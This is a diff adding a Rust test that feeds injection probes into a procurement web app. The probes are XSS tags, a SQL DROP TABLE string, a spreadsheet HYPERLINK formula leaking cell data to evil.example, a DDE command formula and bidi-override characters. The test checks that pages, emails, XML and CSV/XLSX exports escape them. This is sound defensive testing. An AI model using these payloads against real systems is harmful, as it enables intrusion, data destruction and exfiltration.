@@ -328,7 +328,564 @@ async fn slow_clients_are_cut_off_with_408(backend: Backend) {
     });
 }
 
+// ---------------------------------------------------------------------------------------
+// XSS and injection probes: stored as typed, shown escaped everywhere.
+
+/// Text an attacker may type, each aimed at a different interpreter.
+const PROBES: &[&str] = &[
+    r#"<script>alert("xss")</script>"#,
+    r#""><img src=x onerror=alert(1)>"#,
+    "'; DROP TABLE orders;--",
+    r#"=HYPERLINK("http://evil.example/?"&A1,"clic")"#,
+    "+1+cmd|' /C calc'!A0",
+    "-2+3 <b>gras</b>",
+    "@SUM(A1:A9) & <i>",
+    "Ab\u{202E}cd\u{200B}ef \u{1F9EA} e\u{0301}\u{FEFF}x {{lang}}",
+];
+
+/// What handlebars makes of text in a page.
+fn escaped(text: &str) -> String {
+    handlebars::html_escape(text)
+}
+
+/// Markup the page must never carry as markup, whatever the probe.
+const LIVE_MARKUP: &[&str] = &[
+    "<script>alert",
+    "<img src=x",
+    "onerror=alert",
+    "<b>gras",
+    "<i>",
+];
+
+/// The page shows `probe` escaped and never as markup. Returns 1 (one place verified).
+fn assert_page_escapes(label: &str, page: &str, probe: &str) -> u64 {
+    assert!(
+        page.contains(&escaped(probe)),
+        "{label}: {probe:?} not shown (escaped) in the page"
+    );
+    for live in LIVE_MARKUP {
+        assert!(
+            !page.contains(live),
+            "{label}: live markup {live:?} in the page"
+        );
+    }
+    1
+}
+
+/// A CSV export: no field a spreadsheet would read as a formula. Returns the fields.
+fn assert_csv_neutral(label: &str, bytes: &[u8]) -> Vec<String> {
+    let text = std::str::from_utf8(bytes).expect("CSV is UTF-8");
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let mut fields = Vec::new();
+    for record in reader.records() {
+        let record = record.unwrap_or_else(|e| panic!("{label}: malformed CSV: {e}"));
+        for field in record.iter() {
+            assert!(
+                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{label}: formula-like field {field:?}"
+            );
+            fields.push(field.to_owned());
+        }
+    }
+    fields
+}
+
+/// An XLSX export: text cells only, never a formula. Returns the text cells.
+fn assert_xlsx_neutral(label: &str, bytes: Vec<u8>) -> Vec<String> {
+    use calamine::{Data, Reader, Xlsx};
+    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes))
+        .unwrap_or_else(|e| panic!("{label}: not an XLSX file: {e}"));
+    let mut texts = Vec::new();
+    for name in book.sheet_names() {
+        let formulas = book.worksheet_formula(&name).expect("formulas readable");
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "{label}: sheet {name} holds formulas"
+        );
+        let range = book.worksheet_range(&name).expect("sheet readable");
+        for (_, _, cell) in range.used_cells() {
+            if let Data::String(text) = cell {
+                texts.push(text.clone());
+            }
+        }
+    }
+    texts
+}
+
+/// Every text node (with its references resolved) and attribute value of a well-formed
+/// XML document without a DOCTYPE.
+fn xml_texts(label: &str, xml: &str) -> Vec<String> {
+    use quick_xml::events::Event;
+    let mut reader = quick_xml::Reader::from_str(xml);
+    let mut texts = Vec::new();
+    let mut current = String::new();
+    let mut depth = 0i32;
+    loop {
+        let event = reader
+            .read_event()
+            .unwrap_or_else(|e| panic!("{label}: not well-formed XML: {e}\n{xml}"));
+        match event {
+            Event::Start(_) | Event::End(_) | Event::Empty(_) | Event::Eof => {
+                if !current.is_empty() {
+                    texts.push(std::mem::take(&mut current));
+                }
+            }
+            _ => {}
+        }
+        match event {
+            Event::Start(ref e) | Event::Empty(ref e) => {
+                if matches!(event, Event::Start(_)) {
+                    depth += 1;
+                }
+                for a in e.attributes() {
+                    let a = a.unwrap_or_else(|err| panic!("{label}: bad attribute: {err}"));
+                    texts.push(
+                        a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
+                            .expect("attribute")
+                            .into_owned(),
+                    );
+                }
+            }
+            Event::End(_) => depth -= 1,
+            Event::Text(t) => current.push_str(&t.xml10_content()),
+            Event::CData(t) => current.push_str(&t.xml10_content()),
+            Event::GeneralRef(r) => {
+                if r.is_char_ref() {
+                    let c = r
+                        .resolve_char_ref()
+                        .ok()
+                        .flatten()
+                        .unwrap_or_else(|| panic!("{label}: bad character reference"));
+                    current.push(c);
+                } else {
+                    current.push(match &*r.xml10_content() {
+                        "lt" => '<',
+                        "gt" => '>',
+                        "amp" => '&',
+                        "quot" => '"',
+                        "apos" => '\'',
+                        other => panic!("{label}: undefined entity &{other};"),
+                    });
+                }
+            }
+            Event::DocType(_) => panic!("{label}: a DOCTYPE in a UBL document"),
+            Event::Eof => break,
+            _ => {}
+        }
+    }
+    assert_eq!(depth, 0, "{label}: unbalanced XML");
+    texts
+}
+
+async fn api(
+    app: &TestApp,
+    method: reqwest::Method,
+    path: &str,
+    bearer: &str,
+    body: Option<serde_json::Value>,
+) -> (u16, serde_json::Value) {
+    let mut request = app
+        .client
+        .request(method, app.url(path))
+        .bearer_auth(bearer);
+    if let Some(body) = body {
+        request = request.json(&body);
+    }
+    let response = request.send().await.expect("sent");
+    let status = response.status().as_u16();
+    let text = response.text().await.expect("body");
+    (
+        status,
+        serde_json::from_str(&text).unwrap_or(serde_json::Value::Null),
+    )
+}
+
+async fn probes_are_stored_as_typed_and_shown_escaped(backend: Backend) {
+    let Some(app) = spawn_app(backend).await else {
+        return;
+    };
+    let now = app.clock.now_naive();
+    let lot = app
+        .with_conn(move |conn| helpers::lot_fixture(conn, now, "LOT-PROBE", 2))
+        .await;
+    let (admin_id, admin_secret) = issue_client(&app, centrale::parties::Role::Admin, None).await;
+    let admin = token(&app, &admin_id, &admin_secret).await;
+    let (s2_id, s2_secret) = issue_client(
+        &app,
+        centrale::parties::Role::Supplier,
+        Some(lot.suppliers[1]),
+    )
+    .await;
+    let (s1_id, s1_secret) = issue_client(
+        &app,
+        centrale::parties::Role::Supplier,
+        Some(lot.suppliers[0]),
+    )
+    .await;
+    let mut sent = 0u64;
+    let mut requests = 0u64;
+    let mut checked = 0u64;
+
+    // A NUL is refused where text is validated, and nothing is stored.
+    let (status, problem) = api(
+        &app,
+        reqwest::Method::POST,
+        &format!("/api/v1/admin/lots/{}/products", lot.lot_id),
+        &admin,
+        Some(serde_json::json!({
+            "sku": "PROBE-NUL", "name_fr": "a\u{0}b", "name_nl": "a\u{0}b",
+            "packaging_fr": "Boîte", "packaging_nl": "Doos", "unit_code": "BX", "vat_class": "standard",
+        })),
+    )
+    .await;
+    assert_eq!(status, 422, "NUL in a product name: {problem}");
+    sent += 1;
+    requests += 1;
+
+    struct Placed {
+        probe: &'static str,
+        sku: String,
+        product_id: i64,
+        institution_id: i64,
+        order_id: i64,
+        buyer_email: String,
+    }
+    let mut placed = Vec::new();
+    for (i, probe) in PROBES.iter().copied().enumerate() {
+        let sku = format!("PROBE-{i}");
+        let (status, product) = api(
+            &app,
+            reqwest::Method::POST,
+            &format!("/api/v1/admin/lots/{}/products", lot.lot_id),
+            &admin,
+            Some(serde_json::json!({
+                "sku": sku, "name_fr": probe, "name_nl": probe,
+                "description_fr": probe, "description_nl": probe,
+                "packaging_fr": "Boîte", "packaging_nl": "Doos",
+                "unit_code": "BX", "vat_class": "standard",
+            })),
+        )
+        .await;
+        assert_eq!(status, 201, "product named {probe:?}: {product}");
+        assert_eq!(product["name_fr"], probe, "stored as typed");
+        let product_id = product["id"].as_i64().unwrap();
+        for supplier in &lot.suppliers {
+            let (status, body) = api(
+                &app,
+                reqwest::Method::PUT,
+                &format!("/api/v1/admin/products/{product_id}/offers/{supplier}"),
+                &admin,
+                Some(serde_json::json!({ "price": "10.00", "available": true })),
+            )
+            .await;
+            assert_eq!(status, 200, "{body}");
+        }
+
+        // An institution whose name and addresses are the probe.
+        let seed = 700 + i as u32;
+        let application = serde_json::json!({
+            "institution": {
+                "name": probe,
+                "enterprise_number": helpers::enterprise_number(seed),
+                "competent_authority": "IRISCARE",
+                "sector": "care_home",
+                "language": if i % 2 == 0 { "fr" } else { "nl" },
+                "billing": {"street": probe, "postcode": "1000", "city": probe},
+                "delivery": [{"label": probe, "street": probe, "postcode": "1000", "city": "Bruxelles"}]
+            },
+            "contact": {"name": probe, "email": format!("contact{seed}@probe.example")},
+            "buyers": [{"name": probe, "email": format!("buyer{seed}@probe.example")}]
+        });
+        let response = app
+            .client
+            .post(app.url("/api/v1/memberships"))
+            .json(&application)
+            .send()
+            .await
+            .unwrap();
+        let status = response.status();
+        let body: serde_json::Value = response.json().await.unwrap_or_default();
+        assert_eq!(status, 201, "application with {probe:?}: {body}");
+        let institution_id = body["id"]
+            .as_i64()
+            .or_else(|| body["institution_id"].as_i64())
+            .unwrap_or_else(|| panic!("institution id in {body}"));
+        let (status, body) = api(
+            &app,
+            reqwest::Method::POST,
+            &format!("/api/v1/admin/memberships/{institution_id}/approve"),
+            &admin,
+            None,
+        )
+        .await;
+        assert!(status < 300, "approve: {status} {body}");
+        let buyer_email = format!("probe-buyer{seed}@probe.example");
+        let (email, name) = (buyer_email.clone(), probe.to_owned());
+        let address_id = app
+            .with_conn(move |conn| {
+                centrale::parties::create_user(
+                    conn,
+                    now,
+                    &centrale::parties::UserInput {
+                        email: &email,
+                        name: &name,
+                        role: centrale::parties::Role::Institution,
+                        institution_id: Some(institution_id),
+                        supplier_id: None,
+                        language: "fr",
+                        password: Some(centrale::parties::Credential::Password(
+                            "probe long password",
+                        )),
+                    },
+                )
+                .expect("buyer");
+                let addresses =
+                    centrale::db::parties::delivery_addresses_of(conn, institution_id).unwrap();
+                assert_eq!(addresses[0].street, name, "address stored as typed");
+                addresses[0].id
+            })
+            .await;
+        let (client_id, secret) = issue_client(
+            &app,
+            centrale::parties::Role::Institution,
+            Some(institution_id),
+        )
+        .await;
+        let bearer = token(&app, &client_id, &secret).await;
+        let (status, body) = api(
+            &app,
+            reqwest::Method::POST,
+            "/api/v1/orders",
+            &bearer,
+            Some(serde_json::json!({
+                "delivery_address_id": address_id,
+                "buyer_reference": probe,
+                "lines": [{ "sku": sku, "quantity": 2 }],
+            })),
+        )
+        .await;
+        assert_eq!(status, 201, "order referenced {probe:?}: {body}");
+        let order_id = body["orders"][0]["id"].as_i64().unwrap();
+        assert_eq!(body["orders"][0]["buyer_reference"], probe);
+        let (status, shown) = api(
+            &app,
+            reqwest::Method::GET,
+            &format!("/api/v1/orders/{order_id}"),
+            &bearer,
+            None,
+        )
+        .await;
+        assert_eq!(status, 200);
+        assert_eq!(shown["buyer_reference"], probe, "read back as typed");
+        checked += 1;
+
+        // The first supplier declines with the probe as its reason.
+        let s1 = token(&app, &s1_id, &s1_secret).await;
+        let (status, body) = api(
+            &app,
+            reqwest::Method::POST,
+            &format!("/api/v1/supplier/orders/{order_id}/decline"),
+            &s1,
+            Some(serde_json::json!({ "reason_code": "out_of_stock", "reason": probe })),
+        )
+        .await;
+        assert_eq!(status, 200, "decline with {probe:?}: {body}");
+        // The second accepts, with the probe as its own reference.
+        let s2 = token(&app, &s2_id, &s2_secret).await;
+        let (status, body) = api(
+            &app,
+            reqwest::Method::POST,
+            &format!("/api/v1/supplier/orders/{order_id}/accept"),
+            &s2,
+            Some(serde_json::json!({ "expected_delivery": "2026-03-16", "supplier_reference": probe })),
+        )
+        .await;
+        assert_eq!(status, 200, "accept with {probe:?}: {body}");
+        sent += 8; // product name, description, institution, address, contact, two references, reason
+        requests += 11;
+        placed.push(Placed {
+            probe,
+            sku,
+            product_id,
+            institution_id,
+            order_id,
+            buyer_email,
+        });
+    }
+
+    // Pages: public, buyer, admin.
+    let back_office = app.as_new_visitor();
+    back_office
+        .create_admin("admin@centrale.example", "admin long password")
+        .await;
+    assert_eq!(
+        back_office
+            .login("admin@centrale.example", "admin long password")
+            .await
+            .status(),
+        303
+    );
+    let (_, lot_page) = app.get_text("/lots/LOT-PROBE").await;
+    let s2 = token(&app, &s2_id, &s2_secret).await;
+    for p in &placed {
+        let probe = p.probe;
+        let (status, page) = app.get_text(&format!("/products/{}", p.sku)).await;
+        assert_eq!(status, 200);
+        checked += assert_page_escapes("product page", &page, probe);
+        checked += assert_page_escapes("lot page", &lot_page, probe);
+        let (_, page) = app
+            .get_text(&format!("/catalogue?q={}", centrale::web::encode(probe)))
+            .await;
+        for live in LIVE_MARKUP {
+            assert!(!page.contains(live), "catalogue search: live {live:?}");
+        }
+        checked += 1;
+
+        let buyer = app.as_new_visitor();
+        assert_eq!(
+            buyer
+                .login(&p.buyer_email, "probe long password")
+                .await
+                .status(),
+            303
+        );
+        let (_, page) = buyer.get_text("/orders").await;
+        checked += assert_page_escapes("buyer order list", &page, probe);
+        let (status, page) = buyer.get_text(&format!("/orders/{}", p.order_id)).await;
+        assert_eq!(status, 200);
+        checked += assert_page_escapes("buyer order page", &page, probe);
+
+        for path in [
+            format!("/admin/orders/{}", p.order_id),
+            format!("/admin/memberships/{}", p.institution_id),
+            format!("/admin/products/{}", p.product_id),
+        ] {
+            let (status, page) = back_office.get_text(&path).await;
+            assert_eq!(status, 200, "{path}");
+            checked += assert_page_escapes(&path, &page, probe);
+        }
+
+        // UBL as the supplier now holding the order receives it.
+        let response = app
+            .client
+            .get(app.url(&format!("/api/v1/supplier/orders/{}", p.order_id)))
+            .bearer_auth(&s2)
+            .header("Accept", "application/xml")
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 200);
+        let xml = response.text().await.unwrap();
+        let texts = xml_texts("UBL order", &xml);
+        // UBL drops bidirectional overrides ("Trojan Source"); everything else is as typed.
+        let in_ubl: String = probe
+            .chars()
+            .filter(|c| !('\u{202A}'..='\u{202E}').contains(c))
+            .collect();
+        for part in ["product name", "buyer reference", "delivery street"] {
+            assert!(
+                texts.iter().any(|t| t == &in_ubl),
+                "UBL order: {part} {in_ubl:?} not found as text in\n{xml}"
+            );
+        }
+        checked += 1;
+        requests += 9;
+    }
+
+    // Emails: every HTML part escapes, every text part carries the probe as typed.
+    let outbox = app.outbox().await;
+    for probe in PROBES {
+        let carrying: Vec<_> = outbox
+            .iter()
+            .filter(|m| m.body_text.contains(probe) || m.subject.contains(probe))
+            .collect();
+        assert!(!carrying.is_empty(), "no email names {probe:?}");
+        for mail in carrying {
+            assert!(
+                mail.body_html.contains(&escaped(probe)),
+                "{}: HTML part lacks escaped {probe:?}",
+                mail.template
+            );
+            checked += 1;
+        }
+    }
+    for mail in &outbox {
+        for live in LIVE_MARKUP {
+            assert!(
+                !mail.body_html.contains(live),
+                "{}: live {live:?} in the HTML part",
+                mail.template
+            );
+        }
+        assert!(
+            !mail.subject.contains('\n') && !mail.to_name.contains('\n'),
+            "header injection"
+        );
+    }
+
+    // Exports: reports and the audit trail, in CSV and XLSX.
+    let refreshed = app
+        .with_conn(|conn| centrale::reports::refresh::catch_up(conn).map_err(|e| e.to_string()))
+        .await;
+    refreshed.expect("reports refreshed");
+    let mut csv_fields = Vec::new();
+    let mut xlsx_texts = Vec::new();
+    for path in [
+        "/admin/reports/products.csv?from=2026-01-01&until=2026-12-31",
+        "/admin/reports/breaches.csv?from=2026-01-01&until=2026-12-31",
+        "/admin/audit.csv",
+    ] {
+        let response = back_office.get(path).await;
+        assert_eq!(response.status(), 200, "{path}");
+        let bytes = response.bytes().await.unwrap();
+        csv_fields.extend(assert_csv_neutral(path, &bytes));
+        checked += 1;
+    }
+    for path in [
+        "/admin/reports/all.xlsx?from=2026-01-01&until=2026-12-31",
+        "/admin/audit.xlsx",
+    ] {
+        let response = back_office.get(path).await;
+        assert_eq!(response.status(), 200, "{path}");
+        let bytes = response.bytes().await.unwrap().to_vec();
+        xlsx_texts.extend(assert_xlsx_neutral(path, bytes));
+        checked += 1;
+    }
+    for probe in PROBES {
+        let formula = probe.starts_with(['=', '+', '-', '@']);
+        let as_csv = if formula {
+            format!("'{probe}")
+        } else {
+            probe.to_string()
+        };
+        assert!(
+            csv_fields.iter().any(|f| f == &as_csv),
+            "CSV exports lack {as_csv:?}"
+        );
+        assert!(
+            xlsx_texts.iter().any(|t| t == probe),
+            "XLSX exports lack {probe:?} as text"
+        );
+        checked += 2;
+    }
+    requests += 6;
+
+    soak::record(&Outcome {
+        scenario: "XSS and injection probes".into(),
+        backend: backend_name(backend),
+        faults: sent,
+        requests,
+        checked,
+        lost: 0,
+        duplicated: 0,
+    });
+}
+
 on_both_backends!(
     over_size_bodies_get_413_in_the_shop_format,
     slow_clients_are_cut_off_with_408,
+    probes_are_stored_as_typed_and_shown_escaped,
 );
